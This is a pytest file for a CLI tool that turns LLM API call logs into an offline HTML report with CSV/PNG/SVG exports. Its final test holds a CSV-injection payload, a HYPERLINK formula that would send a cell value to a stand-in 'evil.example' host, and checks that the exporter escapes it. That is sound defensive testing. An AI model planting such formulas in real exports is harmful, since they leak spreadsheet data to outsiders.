"""``promptprism report``: log shapes, numbers against direct counts, the offline HTML, exports, bad input."""

from __future__ import annotations

import csv
import gzip
import json
import os
import re
import shutil
import statistics
import subprocess
import sys
import time
from collections import Counter, defaultdict
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from promptprism.cli import app
from traffic.logs import LogReader, Problem, Unreadable, parse_log_line, parse_timestamp, resolve_sources
from traffic.store import EventRecord, EventStore

ROOT = Path(__file__).resolve().parents[2]
SAMPLE = ROOT / "examples" / "sample_calls.jsonl"
CHART_IDS = {
    "category_share_requests",
    "category_share_tokens",
    "reasoning_share",
    "tool_share",
    "token_trends",
    "tokens_by_category",
    "language_mix",
    "model_category",
}
TABLE_NAMES = {
    "category_share",
    "reasoning_share",
    "tool_share",
    "token_trends",
    "tokens_by_category",
    "language_mix",
    "model_category",
    "model_top_categories",
}


def chat(user: str = "how do I reverse a list in python", **extra: Any) -> dict[str, Any]:
    """A gateway log line of shape (a)."""
    line = {
        "timestamp": "2025-09-03T10:00:00Z",
        "model": "gpt-4o",
        "request": {"model": "gpt-4o", "messages": [{"role": "user", "content": user}]},
        "response": {
            "model": "gpt-4o-2024-08-06",
            "choices": [{"message": {"role": "assistant", "content": "use reversed()"}, "finish_reason": "stop"}],
            "usage": {"prompt_tokens": 12, "completion_tokens": 5},
        },
    }
    line.update(extra)
    return line


def write_jsonl(path: Path, lines: list[Any]) -> Path:
    path.write_text("".join((ln if isinstance(ln, str) else json.dumps(ln)) + "\n" for ln in lines), encoding="utf-8")
    return path


def records(path: Path) -> list[Any]:
    return [entry for entry in LogReader(resolve_sources([str(path)])) if entry is not None]


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def payload_of(html: str) -> dict[str, Any]:
    match = re.search(r'<script id="prism-data" type="application/json">(.*?)</script>', html, re.DOTALL)
    assert match, "the report has no inlined payload"
    return json.loads(match.group(1))  # type: ignore[no-any-return]


# --- reading every accepted shape -------------------------------------------------------------------------------


def test_timestamps_in_every_accepted_form() -> None:
    expected = datetime(2025, 9, 3, 10, 0, tzinfo=UTC)
    for value in (
        "2025-09-03T10:00:00Z",
        "2025-09-03T12:00:00+02:00",
        "2025-09-03 10:00:00",
        1756893600,
        1756893600.0,
        "1756893600",
        1756893600000,
        1756893600000000,
    ):
        assert parse_timestamp(value) == expected, value
    for bad in ("yesterday", True, None, [1]):
        with pytest.raises(Unreadable):
            parse_timestamp(bad)


def test_gateway_line_variants_read_the_same_call() -> None:
    base = chat()
    request, response = base["request"], base["response"]
    variants = {
        "shape (a)": base,
        "created_at, unix ms": {**chat(), "timestamp": None, "created_at": 1756893600000},
        "startTime (LiteLLM)": {
            "startTime": 1756893600.0,
            "model": "gpt-4o",
            "messages": request["messages"],
            "response": response,
        },
        "raw HTTP bodies": {"ts": "2025-09-03T10:00:00Z", "request": {"body": request}, "response": {"body": response}},
        "bodies as JSON strings": {
            "time": 1756893600,
            "request": json.dumps(request),
            "response": json.dumps(response),
        },
        "flat, choices and usage at top level": {
            "timestamp": "2025-09-03T10:00:00Z",
            "messages": request["messages"],
            "choices": response["choices"],
            "usage": response["usage"],
            "model": "gpt-4o",
        },
        "flat, completion text and top-level token counts": {
            "created": 1756893600,
            "model": "gpt-4o",
            "messages": request["messages"],
            "completion": "use reversed()",
            "prompt_tokens": 12,
            "completion_tokens": 5,
        },
    }
    for name, line in variants.items():
        record = parse_log_line(line, name)
        assert record.ts == datetime(2025, 9, 3, 10, 0, tzinfo=UTC), name
        assert record.model is not None and record.model.startswith("gpt-4o"), name
        assert record.item is not None and record.item.request.messages[-1].content == request["messages"][0]["content"]
        assert record.item.response is not None and record.item.response.usage.prompt_tokens == 12, name


def test_metadata_app_timestamp_from_response_and_prompt_lines() -> None:
    line = chat(app="ide-plugin")
    del line["timestamp"]
    line["response"]["created"] = 1756893600
    record = parse_log_line(line, "x")
    assert (record.app, record.ts.hour) == ("ide-plugin", 10)
    assert parse_log_line({**chat(), "metadata": {"app": "support"}}, "x").app == "support"
    prompt = parse_log_line({"timestamp": 1756893600, "prompt": "2+2?", "completion": "4"}, "x")
    assert prompt.item is not None and prompt.item.prompt == "2+2?"


def test_batch_api_output_is_joined_with_its_input_in_any_order(tmp_path: Path) -> None:
    body = {
        "created": 1756893600,
        "model": "gpt-4o-mini",
        "choices": [{"message": {"role": "assistant", "content": "Bonjour"}, "finish_reason": "stop"}],
        "usage": {"prompt_tokens": 20, "completion_tokens": 3},
    }
    outputs = write_jsonl(
        tmp_path / "batch_output.jsonl",
        [
            {"id": "b1", "custom_id": "r-1", "response": {"status_code": 200, "body": body}, "error": None},
            {"id": "b2", "custom_id": "r-2", "response": {"status_code": 500, "body": {}}, "error": None},
            {"id": "b3", "custom_id": "r-3", "response": {"status_code": 200, "body": body}, "error": None},
        ],
    )
    inputs = write_jsonl(
        tmp_path / "batch_input.jsonl",
        [
            {
                "custom_id": "r-1",
                "method": "POST",
                "url": "/v1/chat/completions",
                "body": {"model": "gpt-4o-mini", "messages": [{"role": "user", "content": "Say hello in French"}]},
            },
            {"custom_id": "r-9", "method": "POST", "url": "/v1/chat/completions", "body": {"messages": []}},
        ],
    )
    reader = LogReader(resolve_sources([str(outputs), str(inputs)]))
    entries = [e for e in reader if e is not None]
    by_line = {e.where: e for e in entries}
    joined = by_line[f"{outputs}:1"]
    assert joined.item.request.messages[0].content == "Say hello in French"
    assert (joined.model, joined.ts) == ("gpt-4o-mini", datetime(2025, 9, 3, 10, 0, tzinfo=UTC))
    assert isinstance(by_line[f"{outputs}:2"], Problem) and "status 500" in by_line[f"{outputs}:2"].reason
    # No input line for r-3: classified on the answer alone.
    assert by_line[f"{outputs}:3"].item.request.messages[0].content == "Bonjour"
    assert reader.unmatched_batch_inputs == 1


def test_classify_output_lines_are_reused_not_reclassified(tmp_path: Path) -> None:
    line = {
        "id": "abc",
        "model_version": "v1",
        "labels": {
            "category": {"label": "math", "probability": 0.9, "abstained": False, "top": []},
            "reasoning_heavy": {"label": "yes", "probability": 0.8, "abstained": False, "top": []},
        },
        "signals": {"tools_offered": True, "tool_call": False, "prompt_tokens": 30, "language": "de"},
        "timestamp": "2025-09-03T10:00:00Z",
        "model": "o3-mini",
        "app": "tutor",
    }
    record = parse_log_line(line, "x")
    assert record.item is None
    assert record.labels == {"category": "math", "reasoning_heavy": "yes"}
    assert (record.model, record.app, record.signals["language"]) == ("o3-mini", "tutor", "de")
    with pytest.raises(Unreadable, match="no timestamp"):
        parse_log_line({k: v for k, v in line.items() if k != "timestamp"}, "x")
    with pytest.raises(Unreadable, match="error entry"):
        parse_log_line({"index": 3, "error": {"type": "invalid_request", "message": "bad"}}, "x")


def test_unreadable_lines_are_listed_with_their_line_numbers(tmp_path: Path) -> None:
    path = write_jsonl(
        tmp_path / "mixed.jsonl",
        [
            chat(),
            "{not json",
            '["a list"]',
            {**chat(), "timestamp": "last tuesday"},
            {"model": "gpt-4o", "request": {"messages": [{"role": "user", "content": "hi"}]}},
            {"timestamp": 1756893600, "request": {"messages": []}},
            {"timestamp": 1756893600, "hello": "world"},
        ],
    )
    path.write_bytes(path.read_bytes() + b"\xff\xfe bad bytes\n")
    entries = records(path)
    problems = {e.where.rsplit(":", 1)[1]: e.reason for e in entries if isinstance(e, Problem)}
    assert set(problems) == {"2", "3", "4", "5", "6", "7", "8"}
    assert "not valid JSON" in problems["2"]
    assert "not a JSON object" in problems["3"]
    assert "neither ISO 8601 nor unix" in problems["4"]
    assert "no timestamp" in problems["5"]
    assert "messages" in problems["6"]
    assert "no request" in problems["7"]
    assert "UTF-8" in problems["8"]


def test_gzipped_logs_are_read(tmp_path: Path) -> None:
    path = tmp_path / "calls.jsonl.gz"
    with gzip.open(path, "wt", encoding="utf-8") as handle:
        handle.write(json.dumps(chat()) + "\n")
    [record] = records(path)
    assert record.model == "gpt-4o"


# --- the sample log, end to end ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def sample_run(small_model_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Classify the sample log, report on it (with every export), then report on the classify output."""
    out = tmp_path_factory.mktemp("sample-report")
    runner = CliRunner(env={"PROMPTPRISM_MODELS_DIR": str(small_model_dir), "COLUMNS": "200"})
    classified = out / "classified.jsonl"
    result = runner.invoke(app, ["classify", "--input", str(SAMPLE), "--output", str(classified)])
    assert result.exit_code == 0, result.output
    started = time.perf_counter()
    result = runner.invoke(
        app, ["report", str(SAMPLE), "--out", str(out / "report.html"), "-f", "csv", "-f", "png", "--format", "svg"]
    )
    seconds = time.perf_counter() - started
    assert result.exit_code == 0, result.output
    # A model version that does not exist: the classified lines must be read back without loading a model.
    again = runner.invoke(
        app,
        ["report", str(classified), "-o", str(out / "again.html"), "-f", "csv", "--model", "no-such-version"],
    )
    assert again.exit_code == 0, again.output
    return {"dir": out, "classified": classified, "output": result.output, "seconds": seconds}


def week_of(timestamp: str) -> str:
    day = datetime.fromisoformat(timestamp).astimezone(UTC).date()
    return (day - timedelta(days=day.weekday())).isoformat()


def direct_counts() -> dict[str, Any]:
    """Counts straight from the sample JSONL, with plain Python (no PromptPrism code)."""
    weeks: dict[str, dict[str, Any]] = defaultdict(
        lambda: {"requests": 0, "tokens": 0, "offered": 0, "called": 0, "reasoning": 0, "prompt": [], "completion": []}
    )
    models: dict[str, list[int]] = defaultdict(lambda: [0, 0])
    for raw in SAMPLE.read_text(encoding="utf-8").splitlines():
        call = json.loads(raw)
        usage = call["response"]["usage"]
        choice = call["response"]["choices"][0]
        week = weeks[week_of(call["timestamp"])]
        week["requests"] += 1
        week["tokens"] += usage["prompt_tokens"] + usage["completion_tokens"]
        week["prompt"].append(usage["prompt_tokens"])
        week["completion"].append(usage["completion_tokens"])
        week["offered"] += bool(call["request"].get("tools"))
        week["called"] += choice["finish_reason"] == "tool_calls" or bool(choice["message"].get("tool_calls"))
        week["reasoning"] += usage.get("completion_tokens_details", {}).get("reasoning_tokens", 0)
        models[call["model"]][0] += 1
        models[call["model"]][1] += usage["prompt_tokens"] + usage["completion_tokens"]
    return {"weeks": weeks, "models": models}


@pytest.mark.slow
def test_sample_report_numbers_match_direct_counts(sample_run: dict[str, Any]) -> None:
    files = sample_run["dir"] / "report_files"
    direct = direct_counts()
    weeks = direct["weeks"]
    assert len(weeks) >= 8

    per_week = defaultdict(lambda: [0, 0])
    for row in read_csv(files / "category_share.csv"):
        per_week[row["week"]][0] += int(row["requests"])
        per_week[row["week"]][1] += int(row["tokens"])
    assert {w: tuple(v) for w, v in per_week.items()} == {w: (c["requests"], c["tokens"]) for w, c in weeks.items()}

    tools = {row["week"]: row for row in read_csv(files / "tool_share.csv")}
    for week, counts in weeks.items():
        assert int(tools[week]["requests"]) == counts["requests"]
        assert int(tools[week]["tools_offered_requests"]) == counts["offered"]
        assert int(tools[week]["tool_call_requests"]) == counts["called"]
        assert float(tools[week]["tool_call_share"]) == pytest.approx(counts["called"] / counts["requests"], abs=1e-6)

    reasoning = {row["week"]: row for row in read_csv(files / "reasoning_share.csv")}
    trends = {row["week"]: row for row in read_csv(files / "token_trends.csv")}
    for week, counts in weeks.items():
        assert int(reasoning[week]["reasoning_tokens"]) == counts["reasoning"]
        assert int(reasoning[week]["completion_tokens"]) == sum(counts["completion"])
        assert int(trends[week]["prompt_tokens"]) == sum(counts["prompt"])
        assert float(trends[week]["prompt_tokens_mean"]) == pytest.approx(statistics.mean(counts["prompt"]), abs=0.01)
        assert float(trends[week]["prompt_tokens_median"]) == statistics.median(counts["prompt"])
        assert float(trends[week]["completion_tokens_median"]) == statistics.median(counts["completion"])
    assert sum(c["reasoning"] for c in weeks.values()) > 0
    assert sum(c["called"] for c in weeks.values()) > 0

    per_model = {
        row["model"]: (int(row["requests"]), int(row["tokens"])) for row in read_csv(files / "model_top_categories.csv")
    }
    assert per_model == {m: tuple(v) for m, v in direct["models"].items()}
    assert len(per_model) >= 3


@pytest.mark.slow
def test_sample_report_labels_match_the_classify_command(sample_run: dict[str, Any]) -> None:
    """Category, reasoning and language counts equal those counted by hand over `promptprism classify` output."""
    files = sample_run["dir"] / "report_files"
    categories: Counter[tuple[str, str]] = Counter()
    heavy: Counter[str] = Counter()
    languages: Counter[str] = Counter()
    model_category: Counter[tuple[str, str]] = Counter()
    for raw in sample_run["classified"].read_text(encoding="utf-8").splitlines():
        line = json.loads(raw)
        # classify passed the input line's metadata through.
        assert {"timestamp", "model", "app"} <= set(line)
        week = week_of(line["timestamp"])
        category = line["labels"]["category"]["label"]
        categories[(week, category)] += 1
        heavy[week] += line["labels"]["reasoning_heavy"]["label"] == "yes"
        languages[line["signals"]["language"]] += 1
        model_category[(line["model"], category)] += 1
    report_categories = {(r["week"], r["category"]): int(r["requests"]) for r in read_csv(files / "category_share.csv")}
    assert {k: v for k, v in report_categories.items() if v} == dict(categories)
    assert {r["week"]: int(r["reasoning_heavy_requests"]) for r in read_csv(files / "reasoning_share.csv")} == dict(
        heavy
    )
    assert {r["language"]: int(r["requests"]) for r in read_csv(files / "language_mix.csv")} == dict(languages)
    report_models = {(r["model"], r["category"]): int(r["requests"]) for r in read_csv(files / "model_category.csv")}
    assert {k: v for k, v in report_models.items() if v} == dict(model_category)
    assert len(languages) >= 3


@pytest.mark.slow
def test_report_on_classify_output_equals_report_on_the_raw_log(sample_run: dict[str, Any]) -> None:
    raw = sample_run["dir"] / "report_files"
    again = sample_run["dir"] / "again_files"
    for name in TABLE_NAMES:
        assert (again / f"{name}.csv").read_text() == (raw / f"{name}.csv").read_text(), name


@pytest.mark.slow
def test_sample_report_is_one_offline_html_file_with_every_chart(sample_run: dict[str, Any]) -> None:
    html = (sample_run["dir"] / "report.html").read_text(encoding="utf-8")
    assert not re.search(r"<script[^>]*\bsrc=", html, re.IGNORECASE), "scripts must be inlined"
    assert not re.search(r"<link[^>]*\bhref=", html, re.IGNORECASE), "styles must be inlined"
    assert not re.search(r"""(src|href)\s*=\s*["']?\s*(https?:)?//""", html, re.IGNORECASE)
    assert "window.vegaEmbed=" in html, "the Vega bundle is inlined"
    payload = payload_of(html)
    charts = {chart["id"]: chart["spec"] for section in payload["sections"] for chart in section["charts"]}
    assert set(charts) == CHART_IDS
    for chart_id, spec in charts.items():
        assert "vega-lite" in spec["$schema"], chart_id
        # Rows travel in the spec itself, inline or as a named dataset: the file needs nothing else.
        assert '"values"' in json.dumps(spec) or spec.get("datasets"), f"{chart_id} has no inline data"
    assert set(payload["tables"]) == TABLE_NAMES
    assert {t for section in payload["sections"] for t in section["tables"]} == TABLE_NAMES
    assert payload["totals"]["requests"] == 3000
    assert len(payload["findings"]) >= 5
    assert any("largest category" in finding for finding in payload["findings"])
    assert "report of 3,000 calls" in sample_run["output"]


@pytest.mark.slow
def test_exports_are_written_in_every_format(sample_run: dict[str, Any]) -> None:
    files = sample_run["dir"] / "report_files"
    for chart_id in CHART_IDS:
        assert (files / f"{chart_id}.png").read_bytes()[:8] == b"\x89PNG\r\n\x1a\n", chart_id
        assert "<svg" in (files / f"{chart_id}.svg").read_text(encoding="utf-8")[:500], chart_id
    assert {p.stem for p in files.glob("*.csv")} == TABLE_NAMES
    assert (files / "language_mix.csv").read_text().startswith("language,requests,request_share,tokens,token_share")


@pytest.mark.slow
def test_sample_report_renders_every_chart_in_a_browser(
    sample_run: dict[str, Any], chromium: Any, tmp_path: Path
) -> None:
    url = (sample_run["dir"] / "report.html").as_uri()
    page = chromium.read(chromium.dump_dom(url))
    assert page.root.get("data-state") == "ready"
    assert set(page.charts) == CHART_IDS
    for chart_id, chart in page.charts.items():
        assert chart["rendered"] == "true", chart_id
        assert chart["svg"] >= 1 and chart["marks"] >= 1, chart_id
    assert page.totals["requests"] == "3000"
    tool_rows = page.tables["tool_share"]
    direct = direct_counts()["weeks"]
    assert {r["week"][:10]: int(r["tool_call_requests"]) for r in tool_rows} == {
        w: c["called"] for w, c in direct.items()
    }
    chromium.screenshot(url, tmp_path / "report.png")


# --- other sources and bad input ----------------------------------------------------------------------------------


def test_report_from_the_event_store_file_and_url(tmp_path: Path) -> None:
    database = tmp_path / "events.db"
    store = EventStore(f"sqlite:///{database}")
    store.create_schema()
    start = datetime(2025, 9, 1, 9, tzinfo=UTC)
    events = []
    for i in range(12):
        signals = {
            "tools_offered": i % 3 == 0,
            "tool_call": i % 6 == 0,
            "turns": 1,
            "prompt_tokens": 100 + i,
            "completion_tokens": 20,
            "reasoning_tokens": 0,
            "has_code": False,
            "language": "en" if i % 4 else "fr",
        }
        labels = {"category": ("math" if i < 8 else "health", 0.9), "reasoning_heavy": ("yes" if i % 2 else "no", 0.8)}
        ts = start + timedelta(days=7 * (i % 3))
        events.append(EventRecord(f"e{i}", ts, "v1", labels, signals, model="gpt-4o" if i % 2 else "o3-mini"))
    store.record(events)
    store.dispose()
    # No model is needed: an empty models directory proves none is loaded.
    runner = CliRunner(env={"PROMPTPRISM_MODELS_DIR": str(tmp_path / "no-models")})
    for source in (str(database), f"sqlite:///{database}"):
        out = tmp_path / "store-report.html"
        result = runner.invoke(app, ["report", source, "--out", str(out), "-f", "csv"])
        assert result.exit_code == 0, result.output
        files = tmp_path / "store-report_files"
        tools = read_csv(files / "tool_share.csv")
        assert [int(r["requests"]) for r in tools] == [4, 4, 4]
        assert sum(int(r["tool_call_requests"]) for r in tools) == 2
        categories = Counter()
        for row in read_csv(files / "category_share.csv"):
            categories[row["category"]] += int(row["requests"])
        assert categories == {"math": 8, "health": 4}
        assert {r["language"]: int(r["requests"]) for r in read_csv(files / "language_mix.csv")} == {"en": 9, "fr": 3}
        assert payload_of(out.read_text())["totals"]["requests"] == 12


def test_partly_unreadable_log_still_reports_and_names_the_bad_lines(tmp_path: Path) -> None:
    classified = {
        "labels": {"category": {"label": "math"}},
        "signals": {"prompt_tokens": 10, "completion_tokens": 2, "language": "en"},
        "model": "gpt-4o",
    }
    path = write_jsonl(
        tmp_path / "calls.jsonl",
        [
            {**classified, "timestamp": "2025-09-01T10:00:00Z"},
            "garbage",
            {**classified, "timestamp": "2025-09-09T10:00:00Z"},
            {**classified},
        ],
    )
    out = tmp_path / "r.html"
    result = CliRunner().invoke(app, ["report", str(path), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert "skipped 2 unreadable record(s)" in result.output
    assert f"{path}:2" in result.output and f"{path}:4" in result.output
    payload = payload_of(out.read_text())
    assert payload["totals"]["requests"] == 2
    assert any(f"{path}:2" in note and f"{path}:4" in note for note in payload["notes"])


@pytest.mark.parametrize(
    ("case", "message"),
    [
        ("missing", "no such file"),
        ("directory", "is a directory"),
        ("garbage", "no readable records"),
        ("format", "unknown --format"),
        ("range", "--since must be earlier"),
        ("outside", "fall between --since and --until"),
        ("foreign_db", "as a PromptPrism event store"),
        ("missing_url", "no such file"),
        ("bad_since", "neither ISO 8601"),
    ],
)
def test_bad_input_exits_2_with_a_message(tmp_path: Path, case: str, message: str) -> None:
    import sqlite3

    good = write_jsonl(
        tmp_path / "ok.jsonl",
        [{"timestamp": "2025-09-01T10:00:00Z", "labels": {"category": "math"}, "signals": {}}],
    )
    garbage = write_jsonl(tmp_path / "garbage.jsonl", ["not json", '{"x": 1}'])
    foreign = tmp_path / "other.db"
    with sqlite3.connect(foreign) as connection:
        connection.execute("CREATE TABLE t (x)")
    arguments = {
        "missing": [str(tmp_path / "nope.jsonl")],
        "directory": [str(tmp_path)],
        "garbage": [str(garbage)],
        "format": [str(good), "--format", "pdf"],
        "range": [str(good), "--since", "2025-10-01", "--until", "2025-09-01"],
        "outside": [str(good), "--since", "2026-01-01"],
        "foreign_db": [str(foreign)],
        "missing_url": [f"sqlite:///{tmp_path / 'typo.db'}"],
        "bad_since": [str(good), "--since", "last week"],
    }[case]
    result = CliRunner().invoke(app, ["report", *arguments, "--out", str(tmp_path / "r.html")])
    assert result.exit_code == 2, result.output
    assert message in " ".join(result.output.split())  # the console wraps long messages
    assert result.exception is None or isinstance(result.exception, SystemExit)
    assert not (tmp_path / "r.html").exists()
    assert not (tmp_path / "typo.db").exists()


def test_the_installed_command_exits_2_without_a_traceback(tmp_path: Path) -> None:
    executable = shutil.which("promptprism", path=str(Path(sys.executable).parent))
    assert executable, "the promptprism entry point is not installed in this environment"
    done = subprocess.run(
        [executable, "report", str(tmp_path / "missing.jsonl"), "--format", "png"],
        capture_output=True,
        text=True,
        timeout=120,
        env={**os.environ, "PROMPTPRISM_MODELS_DIR": str(tmp_path)},
        check=False,
    )
    assert done.returncode == 2
    assert "no such file" in done.stderr
    assert "Traceback" not in done.stderr + done.stdout


def test_classify_passes_timestamp_model_and_app_through(small_model_dir: Path, tmp_path: Path) -> None:
    source = write_jsonl(
        tmp_path / "in.jsonl",
        [
            chat(app="ide"),
            {**chat(), "timestamp": None, "created": 1756893600},
            {"text": "what is 2+2"},
        ],
    )
    out = tmp_path / "out.jsonl"
    runner = CliRunner(env={"PROMPTPRISM_MODELS_DIR": str(small_model_dir)})
    result = runner.invoke(app, ["classify", "--input", str(source), "--output", str(out)])
    assert result.exit_code == 0, result.output
    first, second, third = (json.loads(line) for line in out.read_text().splitlines())
    assert (first["timestamp"], first["model"], first["app"]) == ("2025-09-03T10:00:00Z", "gpt-4o", "ide")
    assert second["timestamp"] == "2025-09-03T10:00:00Z" and "app" not in second
    assert not {"timestamp", "model", "app"} & set(third)
    assert {"id", "model_version", "labels", "signals", "elapsed_ms"} <= set(first)


# --- the shipped sample ---------------------------------------------------------------------------------------------


def test_the_committed_sample_log_is_what_the_generator_writes(tmp_path: Path) -> None:
    out = tmp_path / "sample.jsonl"
    subprocess.run(
        [sys.executable, str(ROOT / "examples" / "make_sample_log.py"), "--out", str(out)],
        check=True,
        capture_output=True,
        timeout=120,
    )
    assert out.read_bytes() == SAMPLE.read_bytes(), "re-run examples/make_sample_log.py and commit its output"
    assert SAMPLE.stat().st_size < 3_000_000


def test_the_sample_prompt_pool_covers_the_taxonomy() -> None:
    sys.path.insert(0, str(ROOT / "examples"))
    try:
        import make_sample_log
    finally:
        sys.path.remove(str(ROOT / "examples"))
    from classifier.taxonomy import label_ids

    pool = make_sample_log.PROMPTS
    assert set(pool) == set(label_ids("category"))
    assert all(8 <= len(prompts) <= 12 for prompts in pool.values())
    everything = [p for prompts in pool.values() for p in prompts]
    assert sum(p.system is not None for p in everything) >= 10
    assert sum(bool(p.history) for p in everything) >= 5
    assert sum(p.call is not None for p in everything) >= 5
    assert sum(not p.user.isascii() for p in everything) >= 15


def test_csv_exports_neutralise_formulas(tmp_path: Path) -> None:
    """An app or model name that a spreadsheet would run as a formula is written as text."""
    from types import SimpleNamespace

    import pandas as pd

    from traffic.analysis import Column, Table
    from traffic.report import export_files

    frame = pd.DataFrame(
        {
            "app": ['=HYPERLINK("http://evil.example?"&A1)', "+1+1", "@SUM(A1)", "-2+3", "ide-plugin"],
            "n": [1, 2, 3, -4, 5],
        }
    )
    table = Table("apps", "Apps", [Column("app", "App"), Column("n", "Requests", "int")], frame)
    [path] = export_files(SimpleNamespace(tables={"apps": table}), [], tmp_path, ["csv"])
    written = pd.read_csv(path)
    assert list(written["app"]) == [
        '\'=HYPERLINK("http://evil.example?"&A1)',
        "'+1+1",
        "'@SUM(A1)",
        "'-2+3",
        "ide-plugin",
    ]
    assert list(written["n"]) == [1, 2, 3, -4, 5]
